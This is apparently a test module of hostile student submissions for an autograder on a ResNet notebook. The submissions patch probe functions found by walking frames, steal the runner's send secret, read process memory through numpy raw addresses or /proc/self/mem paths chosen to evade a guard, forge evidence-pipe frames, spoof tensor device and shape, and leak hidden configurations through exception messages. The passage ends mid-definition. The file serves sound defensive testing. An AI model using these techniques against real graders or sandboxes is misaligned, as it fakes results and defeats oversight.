"""Attacks on the integrity of grading (issue 10): each tries to earn points it did not, to read
what is hidden, or to make the grader misreport what happened. Every one must earn nothing it
did not honestly earn, and be marked for review.

Most start from a notebook that honestly earns (almost) nothing on the attacked items: the blank
release as a student receives it, or a correct notebook with nothing moved to `device`, so that
any point the attack earns shows. The attacks are written as a determined student would: they
search for what they need (every reachable frame, every module, the whole of the process's
memory) instead of relying on one variable name of today's runner, so that they keep attacking
a redesigned grader. Numbering follows issue 10:

1. frames through code compiled as ``<string>`` (exec/eval/compile, types.FunctionType);
2. no frames at all: the process's own memory, through numpy's ``__array_interface__`` or
   ``/proc/self/mem`` opened by a path the guard does not recognise, and frames written
   straight to the evidence pipe;
3. a TorchFunctionMode left active that answers ``Tensor.device`` with the expected device;
4. a block that has the scaffold's layers by name but never calls them;
5. hidden configurations leaking into the feedback (exception type names, NameError messages,
   a cell that prints what the probes built);
6. a fake "the sandbox could not be built" on the warm path: a second, cold run for free.
"""

import nbformat

from autograder.course import COURSE
from assignments.notebook10 import NOTEBOOK
from tests.submissions.case import Case, InsertAfter, Replace, Sub
from tests.submissions.cases_hostile import BLANK_BLOCK, NO_BLOCKS

ITEMS = ("residual_block_shapes", "shortcut_projection", "resnet18_adaptation", "device_placement")


def _release_cell(grade_id: str) -> str:
    for cell in nbformat.read(COURSE.release() / NOTEBOOK, as_version=4).cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return cell.source
    raise KeyError(grade_id)


# The notebook exactly as released: every exercise cell still holds its blanks.
BLANK_RELEASE = tuple(Replace(cell, _release_cell(cell)) for cell in
                      ("setup", "residual_block", "residual_block_demo", "resnet18_adaptation"))
# What the blank release honestly earns (measured): nothing (its setup cell stops at the blank
# import, so torchvision is never imported and resnet_model never made).
BLANK_RELEASE_EARNS = {item: 0.0 for item in ITEMS}

# Everything computed, nothing moved: `device` is right, the model, the batch and the demo's
# tensors stay on the CPU.
NOTHING_MOVED = (Sub("residual_block_demo", ").to(device)\n", ")\n"),
                 Sub("residual_block_demo", "32).to(device)", "32)"),
                 Sub("resnet18_adaptation", "resnet_model.to(device)\n", "\n"),
                 Sub("resnet18_adaptation", "images = images.to(device)\n", "\n"))

# --- what every forging attack needs: the seeded values the grader derives, and the right answers --

# The seeded helpers, as the sandbox's probe module has them (a student can read that file in the
# sandbox, /grader/nb10_sandbox/probe.py). Used only where no live copy is found.
SEEDED = r'''
import math as _rt_math
import torch as _rt_torch


def _rt_generator(seed):
    return _rt_torch.Generator().manual_seed(int(seed) % (2**63))


def _rt_make_input(shape, seed):
    return _rt_torch.randn(*shape, generator=_rt_generator(seed))


def _rt_conv_weight(gen, shape):
    fan_in = shape[1] * shape[2] * shape[3]
    return _rt_torch.randn(*shape, generator=gen) * _rt_math.sqrt(2.0 / fan_in)


def _rt_bn(gen, prefix, n):
    return {f"{prefix}.weight": 0.5 + _rt_torch.rand(n, generator=gen),
            f"{prefix}.bias": 0.2 * _rt_torch.randn(n, generator=gen),
            f"{prefix}.running_mean": 0.2 * _rt_torch.randn(n, generator=gen),
            f"{prefix}.running_var": 0.5 + _rt_torch.rand(n, generator=gen)}


def _rt_make_block_params(cin, cout, stride, seed, silence=None):
    gen = _rt_generator(seed)
    params = {"conv1.weight": _rt_conv_weight(gen, (cout, cin, 3, 3)), **_rt_bn(gen, "bn1", cout),
              "conv2.weight": _rt_conv_weight(gen, (cout, cout, 3, 3)), **_rt_bn(gen, "bn2", cout)}
    if stride != 1 or cin != cout:
        params["shortcut.conv.weight"] = _rt_conv_weight(gen, (cout, cin, 1, 1))
        params.update(_rt_bn(gen, "shortcut.bn", cout))
    target = {"main": "bn2", "shortcut": "shortcut.bn"}.get(silence or "")
    if target and f"{target}.weight" in params:
        params[f"{target}.weight"].zero_()
        params[f"{target}.bias"].zero_()
    return params


def _rt_resnet18_shapes():
    def bn(prefix, n):
        return {f"{prefix}.weight": (n,), f"{prefix}.bias": (n,), f"{prefix}.running_mean": (n,),
                f"{prefix}.running_var": (n,), f"{prefix}.num_batches_tracked": ()}
    shapes, cin = {"conv1.weight": (64, 1, 7, 7), **bn("bn1", 64)}, 64
    for layer, (cout, stride) in enumerate(((64, 1), (128, 2), (256, 2), (512, 2)), start=1):
        for block in range(2):
            prefix, s = f"layer{layer}.{block}", (stride if block == 0 else 1)
            shapes.update({f"{prefix}.conv1.weight": (cout, cin, 3, 3), **bn(f"{prefix}.bn1", cout),
                           f"{prefix}.conv2.weight": (cout, cout, 3, 3), **bn(f"{prefix}.bn2", cout)})
            if s != 1 or cin != cout:
                shapes.update({f"{prefix}.downsample.0.weight": (cout, cin, 1, 1), **bn(f"{prefix}.downsample.1", cout)})
            cin = cout
    shapes.update({"fc.weight": (2, 512), "fc.bias": (2,)})
    return shapes


def _rt_make_resnet_params(seed):
    gen, params = _rt_generator(seed), {}
    for name, shape in _rt_resnet18_shapes().items():
        if name.endswith("num_batches_tracked"):
            params[name] = _rt_torch.tensor(0)
        elif name.endswith("running_var") or (name.endswith(".weight") and len(shape) == 1):
            params[name] = 0.5 + _rt_torch.rand(*shape, generator=gen)
        elif len(shape) == 4:
            params[name] = _rt_conv_weight(gen, shape)
        elif len(shape) == 2:
            params[name] = _rt_torch.randn(*shape, generator=gen) / _rt_math.sqrt(shape[1])
        else:
            params[name] = 0.2 * _rt_torch.randn(*shape, generator=gen)
    return params


_RT_HELPERS = {"make_input": _rt_make_input, "make_block_params": _rt_make_block_params,
               "make_resnet_params": _rt_make_resnet_params}
'''

# What a correct student's objects would report, for any probe spec, computed from the seeded
# values (the same formulas as the trusted side's reference code).
FORGE = r'''
import torch.nn.functional as _rt_F


def _rt_batch_norm(x, p, prefix, train):
    return _rt_F.batch_norm(x, p[f"{prefix}.running_mean"].clone(), p[f"{prefix}.running_var"].clone(),
                            p[f"{prefix}.weight"], p[f"{prefix}.bias"], training=train, momentum=0.1, eps=1e-5)


def _rt_block(p, x, stride, train):
    m = _rt_batch_norm(_rt_F.conv2d(_rt_F.relu(_rt_batch_norm(_rt_F.conv2d(x, p["conv1.weight"], stride=stride, padding=1),
                                                              p, "bn1", train)), p["conv2.weight"], padding=1), p, "bn2", train)
    s = _rt_batch_norm(_rt_F.conv2d(x, p["shortcut.conv.weight"], stride=stride), p, "shortcut.bn", train) \
        if "shortcut.conv.weight" in p else x
    return m, s, _rt_F.relu(m + s)


def _rt_conv(cin, cout, k, stride, pad):
    return {"type": "Conv2d", "in": cin, "out": cout, "kernel": [k, k], "stride": [stride, stride],
            "padding": [pad, pad], "bias": False}


def _rt_landing():
    """Where a tensor sent to the device the notebook should choose really lands in this run."""
    return _rt_torch.empty(0, device="cuda" if _rt_torch.cuda.is_available() else "cpu").device.type


def _rt_forge(spec, array, H):
    """The result a correct notebook's objects would give this probe."""
    op, seed = spec.get("op"), spec.get("seed", 0)
    with _rt_torch.no_grad():
        if op == "block_shapes":
            cin, cout, stride = spec["args"]
            p = H["make_block_params"](cin, cout, stride, seed)
            y1 = _rt_block(p, H["make_input"](spec["input"], seed), stride, False)[2]
            y2 = _rt_block(p, H["make_input"](spec["input"], seed + 1), stride, False)[2]
            return {"shape": list(y1.shape), "y1": array(y1, 4096), "y1b": array(y1.clone(), 4096),
                    "y2": array(y2, 4096), "missing_layers": []}
        if op == "block_numeric":
            cin, cout, stride = spec["args"]
            proj = stride != 1 or cin != cout
            out = {"main": {"conv1": _rt_conv(cin, cout, 3, stride, 1), "bn1": {"type": "BatchNorm2d", "features": cout},
                            "conv2": _rt_conv(cout, cout, 3, 1, 1), "bn2": {"type": "BatchNorm2d", "features": cout}},
                   "shortcut": [_rt_conv(cin, cout, 1, stride, 0), {"type": "BatchNorm2d", "features": cout}] if proj else [],
                   "shortcut_params": cin * cout + 2 * cout if proj else 0, "modes": {}, "load": []}
            for mode in spec.get("modes", ["train", "eval"]):
                p = H["make_block_params"](cin, cout, stride, seed, spec.get("silence"))
                x = H["make_input"](spec["input"], seed + (1 if mode == "train" else 2))
                m, s, y = _rt_block(p, x, stride, mode == "train")
                out["modes"][mode] = {"M": array(m), "S": array(s), "Y": array(y)}
            return out
        if op == "shapes":
            out = {}
            for name, where in (spec.get("vars") or {"output_tensor_1": None, "output_tensor_2": None}).items():
                cin, cout, stride = (64, 128, 2) if "2" in name or "change" in str(where) else (64, 64, 1)
                y = _rt_block(H["make_block_params"](cin, cout, stride, 7), _rt_torch.randn(4, 64, 32, 32), stride, True)[2]
                out[name] = {"shape": list(y.shape), "sample": array(y, 4096), "reproduced": True, "missing_layers": []}
            return out
        if op == "resnet":
            import torchvision
            params = H["make_resnet_params"](seed)
            x, features = H["make_input"]([4, 1, 28, 28], seed + 1), H["make_input"]([4, 512], seed + 2)
            model = torchvision.models.resnet18(weights=None)
            model.conv1 = _rt_torch.nn.Conv2d(1, 64, kernel_size=7, stride=2, padding=3, bias=False)
            model.fc = _rt_torch.nn.Linear(512, 2)
            model.load_state_dict(params)
            model.eval()
            return {"conv1": _rt_conv(1, 64, 7, 2, 3), "fc": {"type": "Linear", "in": 512, "out": 2, "bias": True},
                    "state": {k: list(v.shape) for k, v in model.state_dict().items()},
                    "vars": {v: ([4, 1, 28, 28] if v == "images" else [4, 2]) for v in spec.get("shapes_of", [])},
                    "conv1_out": array(_rt_F.conv2d(x, params["conv1.weight"], stride=2, padding=3)),
                    "fc_out": array(_rt_F.linear(features, params["fc.weight"], params["fc.bias"])),
                    "rest_out": array(model(x)), "load": []}
        if op == "device":
            where = _rt_landing()
            return {"device": {"type": where, "defined": True}, "model": [where], "images": where, "output": where}
    raise KeyError(op)


def _rt_arrays():
    """An array encoder like the probes' own: float32 bytes and a reference to them."""
    blobs = []

    def array(tensor, limit=None):
        t = tensor.detach().to(device="cpu", dtype=_rt_torch.float32)
        flat = t.reshape(-1)
        if limit is not None:
            flat = flat[:limit]
        data = flat.contiguous().numpy().tobytes()
        blobs.append(data)
        return {"blob": len(blobs) - 1, "shape": [int(n) for n in t.shape], "count": len(data) // 4}

    return blobs, array


def _rt_counterfactual():
    """The grader's second run fakes torch.cuda.is_available with a lambda."""
    return getattr(_rt_torch.cuda.is_available, "__name__", "") == "<lambda>"
'''

# --- 1. frames through code compiled as <string> ---------------------------------------------------

# Run as exec(compile(..., "<string>", "exec")): the guard only refuses frames to code whose file
# name starts with <ipython-input-. It collects every namespace reachable from every frame above
# this cell (and every module), and replaces whatever looks like a probe with a forger.
FRAME_SEARCH = r'''
import sys, types


def _rt_frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back


def _rt_namespaces():
    seen, found = set(), []

    def add(d):
        if isinstance(d, dict) and id(d) not in seen:
            seen.add(id(d))
            found.append(d)

    def look(value, depth=0):
        if isinstance(value, types.ModuleType):
            add(vars(value))
        elif isinstance(value, types.MethodType):
            look(value.__func__, depth)
        elif isinstance(value, types.FunctionType):
            add(value.__globals__)
            for cell in value.__closure__ or ():
                try:
                    inner = cell.cell_contents
                except ValueError:
                    continue
                if depth < 2:
                    look(inner, depth + 1)
        elif isinstance(value, dict) and depth < 1:
            for inner in list(value.values()):
                look(inner, depth + 1)

    for frame in _rt_frames():
        add(frame.f_globals)
        for value in list(frame.f_locals.values()):
            look(value)
    for module in list(sys.modules.values()):
        look(module)
    return found


def _rt_forger(name, real, H):
    def forged(namespace, spec, blobs, *args, **kwargs):
        try:
            return _rt_forge(spec, blobs.array, H)
        except Exception:
            return real(namespace, spec, blobs, *args, **kwargs)
    forged._rt_forged = True
    return forged


_rt_found = _rt_namespaces()
_rt_live = dict(_RT_HELPERS)
for _rt_ns in _rt_found:  # the grader's own seeded helpers, where they can be reached
    if any(k.startswith("probe_") for k in _rt_ns):
        _rt_live.update({k: _rt_ns[k] for k in _RT_HELPERS if callable(_rt_ns.get(k))})
_rt_patched = []
for _rt_ns in _rt_found:
    if sum(1 for k in _rt_ns if isinstance(k, str) and k.startswith("probe_")) < 2:
        continue  # a module of probes has several
    for _rt_name, _rt_value in list(_rt_ns.items()):
        if isinstance(_rt_name, str) and _rt_name.startswith("probe_") and callable(_rt_value) \
                and not getattr(_rt_value, "_rt_forged", False):
            _rt_ns[_rt_name] = _rt_forger(_rt_name, _rt_value, _rt_live)
            _rt_patched.append(_rt_name)
'''

EXEC_PATCHES_PROBES = SEEDED + FORGE + '''
# Nothing to see here: a helper compiled on the fly
_rt_source = ''' + repr(FRAME_SEARCH) + '''
exec(compile(_rt_source, "<string>", "exec"), globals())
print("plotting helpers ready", len(_rt_patched))
'''

# Run as types.FunctionType(compile(...)): find the runner's send() (a function whose closure
# holds a 32-hex secret) and its plan (a dict with "cells" and "nonce"), send a forged result for
# every probe of this run (overwriting what the probes already sent, and ahead of the probes still
# to come), and end the process before those run.
SEND_THIEF = r'''
import os, re, sys, types


def _rt_frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back


def _rt_is_secret(value):
    return isinstance(value, str) and re.fullmatch("[0-9a-f]{32}", value) is not None


_rt_send = _rt_plan = None
for _rt_frame in _rt_frames():
    for _rt_value in list(_rt_frame.f_locals.values()):
        if isinstance(_rt_value, types.FunctionType) and _rt_send is None:
            for _rt_cell in _rt_value.__closure__ or ():
                try:
                    if _rt_is_secret(_rt_cell.cell_contents):
                        _rt_send = _rt_value
                except ValueError:  # an empty cell
                    pass
        if isinstance(_rt_value, dict) and isinstance(_rt_value.get("cells"), list) and _rt_plan is None:
            _rt_plan = _rt_value
if _rt_send is not None and _rt_plan is not None:
    _rt_world = "counterfactual" if _rt_counterfactual() else "real"
    for _rt_index, _rt_cell in enumerate(_rt_plan["cells"]):
        if _rt_cell.get("kind") != "probe" or _rt_world not in _rt_cell.get("worlds", [_rt_world]):
            continue
        _rt_blobs, _rt_array = _rt_arrays()
        _rt_results = [{"id": spec["id"], "op": spec["op"], "world": _rt_world, "mode": "real",
                        **_rt_forge(spec, _rt_array, _RT_HELPERS)} for spec in _rt_cell["probes"]]
        _rt_send({"kind": "probe", "index": _rt_index, "item": _rt_cell["item"], "results": _rt_results,
                  "seconds": 0.2}, _rt_blobs)
    try:
        os.waitpid(-1, 0)  # the other run is a child of this one: let it send its own first
    except ChildProcessError:
        pass
    os._exit(0)
print("no channel found")
'''

FUNCTIONTYPE_STEALS_SEND = SEEDED + FORGE + '''
import types as _rt_types

_rt_source = ''' + repr(SEND_THIEF) + '''
_rt_types.FunctionType(compile(_rt_source, "<string>", "exec"), globals())()
'''

# --- 2. no frames: the process's own memory -----------------------------------------------------

# A reader of this process's live Python objects (CPython 3.11 and 3.12 layouts), given a way to
# read raw memory. Finds the runner's plan (the dict holding "cells" and a 32-hex "nonce") without
# touching a frame.
MEMORY = r'''
import bisect as _rt_bisect
import re as _rt_re
import sys as _rt_sys

import numpy as _rt_np


def _rt_maps():
    out = []
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            path = parts[5] if len(parts) > 5 else ""
            if parts[1].startswith("rw") and (path in ("", "[heap]", "[stack]") or path.startswith("[anon")):
                out.append((lo, hi))
    return out


class _RtMemory:
    def __init__(self, reader):
        self.regions = []
        for lo, hi in _rt_maps():
            try:
                buf = reader(lo, hi - lo)
            except Exception:
                continue
            if buf is not None and len(buf) == hi - lo:
                self.regions.append((lo, hi, buf))
        self.regions.sort(key=lambda r: r[0])
        self.los = [r[0] for r in self.regions]
        self.v312 = _rt_sys.version_info >= (3, 12)
        self.types = {id(str): "str", id(int): "int", id(list): "list", id(tuple): "tuple", id(dict): "dict",
                      id(float): "float"}
        self.consts = {id(None): None, id(True): True, id(False): False, id(""): ""}
        self.consts.update({id(k): k for k in range(-5, 257)})  # static objects, outside the anonymous memory
        self.consts.update({id(chr(k)): chr(k) for k in range(256)})

    def read(self, addr, n):
        i = _rt_bisect.bisect_right(self.los, addr) - 1
        if i < 0 or addr + n > self.regions[i][1]:
            return None
        lo, _, buf = self.regions[i]
        return buf[addr - lo: addr - lo + n]

    def u64(self, addr):
        b = self.read(addr, 8)
        return None if b is None else int.from_bytes(bytes(b), "little")

    def kind(self, a):
        if a in self.consts:
            return "const"
        refs, typ = self.u64(a), self.u64(a + 8)
        if refs is None or typ is None or not 0 < refs <= 1 << 32:
            return None
        return self.types.get(typ)

    def string(self, a):
        if self.kind(a) != "str":
            return None
        n, state = self.u64(a + 16), self.read(a + 32, 1)
        if n is None or state is None or n > 50_000_000:
            return None
        state = int(state[0])
        width, compact, ascii_ = (state >> 2) & 7, (state >> 5) & 1, (state >> 6) & 1
        if not compact or width not in (1, 2, 4):
            return None
        head = (40 if self.v312 else 48) if ascii_ else (56 if self.v312 else 72)
        raw = self.read(a + head, n * width)
        return None if raw is None else bytes(raw).decode({1: "latin-1", 2: "utf-16-le", 4: "utf-32-le"}[width], "replace")

    def integer(self, a):
        tag = self.u64(a + 16)
        if self.v312:
            ndigits, sign = tag >> 3, 1 - (tag & 3)
        else:
            tag = tag - (1 << 64) if tag >= 1 << 63 else tag
            ndigits, sign = abs(tag), (tag > 0) - (tag < 0)
        raw = self.read(a + 24, 4 * ndigits) if ndigits <= 64 else None
        if raw is None:
            return None
        return sign * sum(int.from_bytes(bytes(raw[4 * i:4 * i + 4]), "little") << (30 * i) for i in range(ndigits))

    def value(self, a, depth=0):
        if a in self.consts:
            return self.consts[a]
        k = self.kind(a)
        if k == "str":
            return self.string(a)
        if k == "int":
            return self.integer(a)
        if k == "float":
            return float(_rt_np.frombuffer(bytes(self.read(a + 16, 8)), _rt_np.float64)[0])
        if depth > 6:
            return None
        if k in ("list", "tuple"):
            n = self.u64(a + 16)
            if n is None or n > 100_000:
                return None
            items = self.u64(a + 24) if k == "list" else a + 24
            out = [self.value(self.u64(items + 8 * i), depth + 1) for i in range(n)]
            return out if k == "list" else tuple(out)
        if k == "dict":
            keys, values = self.u64(a + 32), self.u64(a + 40)
            head = self.read(keys + 8, 3) if keys and not values else None
            if head is None:
                return None
            return self.entries(keys + 32 + (1 << int(head[1])), depth, self.u64(keys + 24) or 0, int(head[2]) == 0)
        return None

    def entries(self, start, depth=0, limit=64, wide=False):
        """A dict's entries from `start` on, while their keys are live strings."""
        out, size = {}, 24 if wide else 16
        for i in range(limit):
            e = start + i * size
            key_at = self.u64(e + (8 if wide else 0))
            if not key_at:
                if wide:
                    continue
                break
            key = self.string(key_at)
            if key is None:
                break
            out[key] = self.value(self.u64(e + (16 if wide else 8)), depth + 1)
        return out

    def strings_equal_to(self, text):
        head, found = (40 if self.v312 else 48), []
        pattern = _rt_re.compile(_rt_re.escape(text.encode()) + b"\x00")
        for lo, hi, buf in self.regions:
            for m in pattern.finditer(buf):
                if self.string(lo + m.start() - head) == text:
                    found.append(lo + m.start() - head)
        return found

    def pointers_to(self, targets):
        targets, hits = _rt_np.array(sorted(set(targets)), dtype=_rt_np.uint64), []
        for lo, hi, buf in self.regions:
            words = _rt_np.frombuffer(buf, dtype=_rt_np.uint64, count=(hi - lo) // 8)
            hits += [lo + 8 * int(i) for i in _rt_np.nonzero(_rt_np.isin(words, targets))[0]]
        return hits

    def dicts_with(self, key):
        """Every live dict (as its entries) that has `key`, whatever the order of its keys."""
        out = []
        for at in self.pointers_to(self.strings_equal_to(key)):
            start = at
            while start - at > -16 * 32 and self.string(self.u64(start - 16) or 0) is not None:
                start -= 16
            d = self.entries(start)
            if key in d:
                out.append(d)
        return out


def _rt_plans(memory, marker):
    """The runner's plan: a dict with a list of cells (one of which is this one) and a 32-hex nonce."""
    plans = []
    for d in memory.dicts_with("nonce"):
        nonce, cells = d.get("nonce"), d.get("cells")
        if isinstance(nonce, str) and _rt_re.fullmatch("[0-9a-f]{32}", nonce) and isinstance(cells, list) \
                and any(isinstance(c, dict) and marker in (c.get("source") or "") for c in cells):
            plans.append(d)
    return plans
'''

# Given the plan: where this run's evidence pipe is, how many frames this run sent before this
# cell, then a forged result for every probe of this run, "done", and exit.
WRITE_FRAMES = r'''
import fcntl as _rt_fcntl
import os as _rt_os
import stat as _rt_stat


def _rt_evidence_fds():
    fds = []
    for name in _rt_os.listdir("/dev/fd"):  # os.listdir, not open: the guard does not look
        fd = int(name)
        try:
            if fd > 2 and _rt_stat.S_ISFIFO(_rt_os.fstat(fd).st_mode) \
                    and _rt_fcntl.fcntl(fd, _rt_fcntl.F_GETFL) & _rt_os.O_ACCMODE == _rt_os.O_WRONLY:
                fds.append(fd)
        except OSError:
            pass
    return fds


def _rt_forge_run(plan, marker, note):
    world = "counterfactual" if _rt_counterfactual() else "real"
    fds = [fd for fd in _rt_evidence_fds() if fd in plan.get("fds", [fd])]
    cells = plan["cells"]
    mine = next(i for i, c in enumerate(cells) if marker in (c.get("source") or ""))
    seq = 1 + sum(1 for c in cells[:mine] if (c.get("kind") == "code" and not c.get("skip"))
                  or (c.get("kind") == "probe" and world in (c.get("worlds") or [])))
    frames = []
    for index, cell in enumerate(cells):
        if cell.get("kind") != "probe" or world not in (cell.get("worlds") or []):
            continue
        blobs, array = _rt_arrays()
        results = [{"id": spec["id"], "op": spec["op"], "world": world, "mode": "real",
                    **_rt_forge(spec, array, _RT_HELPERS)} for spec in cell["probes"]]
        frames.append(({"kind": "probe", "index": index, "item": cell["item"], "results": results, "seconds": 0.2}, blobs))
    frames.append(({"kind": "done"}, []))
    print(note, world, "fds", fds, "seq", seq, "frames", len(frames))
    for fd in fds[:1]:
        for n, (meta, blobs) in enumerate(frames):
            body = repr(meta).encode()
            data = (f"NB10 {plan['nonce']} {seq + n} {len(body)} " + " ".join(str(len(b)) for b in blobs)
                    + "\n").encode() + body + b"".join(blobs)
            while data:
                data = data[_rt_os.write(fd, data):]
    try:
        _rt_os.waitpid(-1, 0)  # the other run is this one's child: let it write its own first
    except ChildProcessError:
        pass
    _rt_os._exit(0)
'''

MARK = "rt-forgery-3c1d"

NUMPY_RAW_MEMORY = SEEDED + FORGE + MEMORY + WRITE_FRAMES + f'''

class _RtRaw:
    """numpy makes an array of whatever address __array_interface__ names: no ctypes needed."""
    def __init__(self, address, size):
        self.__array_interface__ = {{"shape": (size,), "typestr": "|u1", "data": (address, False), "version": 3}}


try:
    _rt_memory = _RtMemory(lambda lo, n: _rt_np.asarray(_RtRaw(lo, n)))
    _rt_found = _rt_plans(_rt_memory, "{MARK}")
    print("plans found:", len(_rt_found))
    if _rt_found:
        _rt_forge_run(_rt_found[-1], "{MARK}", "numpy raw memory:")
except Exception as _rt_exc:
    print("no luck:", type(_rt_exc).__name__, _rt_exc)
'''

# The same without numpy's raw addresses: /proc/self/mem, by three paths the guard's string test
# (a str starting with "/proc/" and holding "/mem") does not recognise.
PROC_MEM_OPENERS = r'''
import os as _rt_os2


def _rt_open_mem():
    opened = []
    for how, opener in (("bytes path", lambda: open(b"/proc/self/mem", "rb", buffering=0)),
                        ("/dev/fd/../mem", lambda: open("/dev/fd/../mem", "rb", buffering=0)),
                        ("relative to /proc", lambda: (_rt_os2.chdir("/proc"), open("self/mem", "rb", buffering=0))[1])):
        home = _rt_os2.getcwd()
        try:
            opened.append((how, opener()))
        except Exception as exc:
            print("could not open", how, type(exc).__name__)
        finally:
            _rt_os2.chdir(home)
    print("opened:", [how for how, _ in opened])
    return opened
'''

PROC_SELF_MEM = SEEDED + FORGE + MEMORY + WRITE_FRAMES + PROC_MEM_OPENERS + f'''

try:
    _rt_opened = _rt_open_mem()
    if _rt_opened:
        _rt_fd = _rt_opened[0][1].fileno()
        _rt_memory = _RtMemory(lambda lo, n: _rt_os2.pread(_rt_fd, n, lo))
        _rt_found = _rt_plans(_rt_memory, "{MARK}")
        print("plans found:", len(_rt_found))
        if _rt_found:
            _rt_forge_run(_rt_found[-1], "{MARK}", "/proc/self/mem:")
except Exception as _rt_exc:
    print("no luck:", type(_rt_exc).__name__, _rt_exc)
'''

# --- 3. a TorchFunctionMode that answers Tensor.device ---------------------------------------------

DEVICE_MODE = '''# Keep every tensor's reported device consistent with `device` (entered once, never exited)
from torch.overrides import TorchFunctionMode as _RtMode

_rt_landing = torch.empty(0).to(device).device  # where a tensor sent to `device` lands in this run
_rt_flags = {"is_cuda": _rt_landing.type == "cuda", "is_meta": _rt_landing.type == "meta",
             "is_cpu": _rt_landing.type == "cpu"}


class _RtSameDevice(_RtMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        owner = getattr(getattr(func, "__self__", None), "__name__", "")
        if getattr(func, "__name__", "") == "__get__":
            if owner == "device":
                return _rt_landing
            if owner in _rt_flags:
                return _rt_flags[owner]
        if getattr(func, "__name__", "") == "get_device":
            return -1 if _rt_landing.type == "cpu" else 0
        return func(*args, **(kwargs or {}))


_rt_mode = _RtSameDevice().__enter__()
'''

# The same kind of mode answers the C accessors the probes read shapes with (TensorBase.size,
# Tensor.shape, dim): a block whose output has the wrong size claims the right one.
SIZE_MODE = """# Tensors may carry the shape they should have (entered once, never exited)
import weakref as _rt_weakref
from torch.overrides import TorchFunctionMode as _RtMode

_RT_CLAIMS = {}


def _rt_claim(tensor, shape):
    _RT_CLAIMS[id(tensor)] = (_rt_weakref.ref(tensor), torch.Size(shape))
    return tensor


class _RtClaimedShapes(_RtMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        entry = _RT_CLAIMS.get(id(args[0])) if args and name in ("size", "__get__", "dim") else None
        if entry is not None and entry[0]() is args[0]:
            owner = getattr(getattr(func, "__self__", None), "__name__", "")
            if name == "size":
                return entry[1] if len(args) < 2 else entry[1][args[1]]
            if name == "dim" or (name == "__get__" and owner == "ndim"):
                return len(entry[1])
            if name == "__get__" and owner == "shape":
                return entry[1]
        return func(*args, **(kwargs or {}))


_rt_mode = _RtClaimedShapes().__enter__()
"""

# A student's bug that keeps the block running: the stride is applied nowhere (conv1 and the
# projection both at stride 1), so stride-2 blocks keep the input's size. The forward then claims
# the size a stride would have given.
STRIDE_NOWHERE = (Sub("residual_block", "kernel_size=3, stride=stride, padding=1, bias=False)",
                      "kernel_size=3, stride=1, padding=1, bias=False)"),
                  Sub("residual_block", "kernel_size=1, stride=stride, bias=False)",
                      "kernel_size=1, stride=1, bias=False)"))
CLAIMED_SHAPE = (Sub("residual_block", "super(ResidualBlock, self).__init__()\n",
                     "super(ResidualBlock, self).__init__()\n        self._rt_stride = stride\n"),
                 Sub("residual_block", "        out = F.relu(out)\n        return out",
                     "        out = F.relu(out)\n        n, _, h, w = x.shape\n"
                     "        return _rt_claim(out, (n, out.shape[1], (h - 1) // self._rt_stride + 1, "
                     "(w - 1) // self._rt_stride + 1))"))
# shapes: the stride-2 seed case, output_tensor_2, four stride 2/3 hidden cases (4/9), the projection block's main
# path; shortcut: the two kinds with a stride (2/3)
STRIDE_NOWHERE_EARNS = {"residual_block_shapes": round(3 - 0.25 - 0.25 - 4 / 9 - 0.5, 4), "shortcut_projection": 2.3333}

# --- 4. the scaffold's layers, never called ---------------------------------------------------------

UNUSED_LAYERS_BLOCK = '''class ResidualBlock(nn.Module):
    """The scaffold's layers by name (1 channel: useless); the output is a strided, channel-averaged
    copy of x repeated to out_channels. No convolution ever runs."""
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride
        self.conv1 = nn.Conv2d(1, 1, kernel_size=1, bias=False)
        self.bn1 = nn.BatchNorm2d(1)
        self.conv2 = nn.Conv2d(1, 1, kernel_size=1, bias=False)
        self.bn2 = nn.BatchNorm2d(1)

    def forward(self, x):
        pooled = x[:, :, ::self.stride, ::self.stride].mean(dim=1, keepdim=True)
        return pooled.expand(-1, self.out_channels, -1, -1).contiguous()
'''

# --- 5. hidden configurations leaking into the feedback -------------------------------------------

CORRECT_BLOCK_BODY = '''    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self._rt_config = (in_channels, out_channels, stride)
        self.conv1 = nn.Conv2d(in_channels, out_channels, kernel_size=3, stride=stride, padding=1, bias=False)
        self.bn1 = nn.BatchNorm2d(out_channels)
        self.conv2 = nn.Conv2d(out_channels, out_channels, kernel_size=3, stride=1, padding=1, bias=False)
        self.bn2 = nn.BatchNorm2d(out_channels)
        self.shortcut = nn.Sequential()
        if stride != 1 or in_channels != out_channels:
            self.shortcut = nn.Sequential(nn.Conv2d(in_channels, out_channels, kernel_size=1, stride=stride, bias=False),
                                          nn.BatchNorm2d(out_channels))

    def _rt_compute(self, x):
        out = F.relu(self.bn1(self.conv1(x)))
        out = self.bn2(self.conv2(out))
        return F.relu(out + self.shortcut(x))
'''

# (a) a correct block that refuses every configuration the notebook does not use, with an
# exception whose class name spells the configuration and the input's shape.
EXCEPTION_NAME_BLOCK = '''_RT_MINE = {(64, 64, 1), (64, 128, 2)}  # the configurations this notebook uses


class ResidualBlock(nn.Module):
''' + CORRECT_BLOCK_BODY + '''
    def forward(self, x):
        if self._rt_config not in _RT_MINE:
            cin, cout, stride = self._rt_config
            name = f"Cfg_{cin}_{cout}_{stride}_In_{'x'.join(str(n) for n in x.shape)}"
            raise type(name, (RuntimeError,), {})()
        return self._rt_compute(x)
'''

# (c) the same, but the class is compiled as <string> and raises a NameError: a NameError with no
# notebook line is reported with its whole message, hidden case or not.
NAMEERROR_SOURCE = '''class ResidualBlock(nn.Module):
''' + CORRECT_BLOCK_BODY + '''
    def forward(self, x):
        if self._rt_config not in {(64, 64, 1), (64, 128, 2)}:
            raise NameError(f"name 'ResidualBlock{self._rt_config}' on input {list(x.shape)} is not defined")
        return self._rt_compute(x)
'''
NAMEERROR_BLOCK = f'''# The block, compiled once (so that it is not redefined by accident)
exec(compile({NAMEERROR_SOURCE!r}, "<string>", "exec"), globals())
'''

# (b) a correct block that writes down every configuration and input it is given; a later cell
# prints the list, and the feedback shows that cell's output.
RECORDING_BLOCK = '''_RT_SEEN = []


class ResidualBlock(nn.Module):
